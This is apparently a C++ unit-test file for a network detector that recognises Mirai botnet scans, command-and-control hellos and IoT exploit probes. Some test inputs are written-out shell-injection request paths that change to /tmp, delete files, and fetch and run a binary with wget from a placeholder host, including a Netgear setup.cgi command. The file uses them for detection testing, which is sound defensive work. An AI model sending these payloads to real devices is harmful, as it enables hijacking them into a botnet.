#include "families/mirai/mirai.h"

#include <gtest/gtest.h>

#include <random>

#include "families/detector_test_tools.h"
#include "families/mirai/signs.h"

namespace luytre {
namespace {

using namespace test;

TEST(MiraiSigns, TheKnownSequenceNumberIsItsTarget) {
  EXPECT_EQ(ip("62.210.75.75").v4(), 1053969227u);
}

TEST(MiraiSigns, FindsTheRowsAnObviousLoopFinds) {
  std::mt19937 random(1);
  for (size_t size = 0; size < 70; ++size)
    for (int round = 0; round < 20; ++round) {
      std::vector<uint32_t> a(size), b(size), found, expected;
      for (size_t i = 0; i < size; ++i) {
        a[i] = static_cast<uint32_t>(random() % 3);
        b[i] = static_cast<uint32_t>(random() % 3);
        if (a[i] == b[i] && a[i] != 0) expected.push_back(static_cast<uint32_t>(i));
      }
      rows_with_sequence_of_target(a, b, found);
      ASSERT_EQ(found, expected);
    }
}

TEST(MiraiSigns, TheHelloIsReadToItsEnd) {
  std::string hello = bytes_of("00000001");
  EXPECT_TRUE(is_mirai_hello(hello + '\0', ""));
  EXPECT_TRUE(is_mirai_hello(hello + '\7' + "telnet1", ""));
  EXPECT_TRUE(is_mirai_hello(hello + '\7' + "telnet1" + bytes_of("0000 0000"), bytes_of("0000 0000")));
  EXPECT_TRUE(is_mirai_hello(hello + '\0', bytes_of("0004 01020304 0000")));
  EXPECT_FALSE(is_mirai_hello(hello, ""));
  EXPECT_FALSE(is_mirai_hello(hello + '\7' + "telnet", ""));
  EXPECT_FALSE(is_mirai_hello(hello + '\3' + bytes_of("ff0102"), ""));
  EXPECT_FALSE(is_mirai_hello(hello + '\0' + "x", ""));
  EXPECT_FALSE(is_mirai_hello(hello + '\0', "SSH-2.0-x"));
  EXPECT_FALSE(is_mirai_hello(hello + '\x21' + std::string(33, 'a'), ""));
}

TEST(MiraiSigns, InjectionsGoToTmpAndFetch) {
  EXPECT_TRUE(is_shell_injection("/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x;chmod+777+x;/tmp/x"));
  EXPECT_TRUE(
      is_shell_injection("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=cd%20/tmp;busybox%20wget"));
  EXPECT_FALSE(is_shell_injection("/shell?help"));
  EXPECT_FALSE(is_shell_injection("/docs/howto?q=cd+/tmp"));
  EXPECT_FALSE(is_shell_injection("/files/tmp/wget.html"));
}

struct MiraiTest : ::testing::Test {
  OurHosts hosts;
  DetectorSettings settings;
  ObservationBatch batch;
  KeepDetections kept;
  std::unique_ptr<Detector> syn = make_mirai_syn(settings, 1 << 20);
  std::unique_ptr<Detector> c2 = make_mirai_c2(settings, 0);
  std::unique_ptr<Detector> probe = make_iot_exploit_probe(settings, 0);
  const std::vector<Seen>& see(Detector& detector, ObservationKind kind, const std::vector<Row>& rows,
                               bool payload = true) {
    kept.seen.clear();
    fill(batch, kind, rows, payload);
    detector.observe(batch, hosts, kept);
    return kept.seen;
  }
  static Row scan(const char* target, bool mark = true) {
    Row row{.dst = target, .dst_port = 23};
    row.tcp_sequence = ip(target).v4() + (mark ? 0 : 1);
    return row;
  }
};

TEST_F(MiraiTest, OneMarkedTargetIsSuspectedTwoAreConfirmed) {
  auto seen = see(*syn, ObservationKind::flow, {scan("62.210.75.75"), scan("62.210.75.75")});
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].evidence, Evidence::suspected);
  seen = see(*syn, ObservationKind::flow, {scan("198.51.100.3"), scan("198.51.100.4")});
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].evidence, Evidence::confirmed);
  EXPECT_EQ(seen[0].family, "mirai");
  EXPECT_EQ(seen[0].first, at("2018-12-09T00:00:00Z"));
}

// As Hide and Seek does: telnet ports, many targets, no mark.
TEST_F(MiraiTest, ATelnetScanWithoutTheMarkIsNotMirai) {
  std::vector<Row> rows;
  std::vector<std::string> targets;
  for (int i = 1; i < 138; ++i) targets.push_back("198.51.100." + std::to_string(i));
  for (const std::string& target : targets) rows.push_back(scan(target.c_str(), false));
  EXPECT_TRUE(see(*syn, ObservationKind::flow, rows).empty());
}

TEST_F(MiraiTest, WithoutPacketsOrFromAbroadNothingIsSaid) {
  EXPECT_TRUE(see(*syn, ObservationKind::flow, {scan("62.210.75.75"), scan("62.210.75.76")}, false).empty());
  Row foreign = scan("14.160.0.1"), foreign2 = scan("14.160.0.2");
  foreign.src = foreign2.src = "198.51.100.9";
  EXPECT_TRUE(see(*syn, ObservationKind::flow, {foreign, foreign2}).empty());
  EXPECT_TRUE(see(*syn, ObservationKind::flow, {Row{.dst = "0.0.0.0"}}).empty());
}

TEST_F(MiraiTest, TheHelloIsProbableOnTelnetsPort) {
  std::string hello = bytes_of("00000001 00");
  auto seen = see(*c2, ObservationKind::flow, {Row{.dst_port = 23, .opening = hello}});
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].evidence, Evidence::probable);
  seen = see(*c2, ObservationKind::flow,
             {Row{.dst_port = 6667, .opening = bytes_of("00000001") + '\4' + "test"}});
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].evidence, Evidence::suspected);
  // BitTorrent's choke; and UDP.
  EXPECT_TRUE(
      see(*c2, ObservationKind::flow,
          {Row{.dst_port = 51413, .opening = hello}, Row{.dst_port = 23, .protocol = 17, .opening = hello}})
          .empty());
}

TEST_F(MiraiTest, AnExploitProbeNamesMiraiByItsAgentAlone) {
  Row row{.host = "198.51.100.9",
          .path = "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/a",
          .user_agent = "Hello, world"};
  auto seen = see(*probe, ObservationKind::http, {row});
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].evidence, Evidence::suspected);
  EXPECT_EQ(seen[0].family, "mirai");
  row.user_agent = "curl/8";
  EXPECT_EQ(see(*probe, ObservationKind::http, {row})[0].family, "");
}

TEST_F(MiraiTest, OrdinaryFlowsAreSilent) {
  auto rows = ordinary_flows(4096);
  EXPECT_TRUE(see(*syn, ObservationKind::flow, rows).empty());
  EXPECT_TRUE(see(*c2, ObservationKind::flow, rows).empty());
}

}  // namespace
}  // namespace luytre
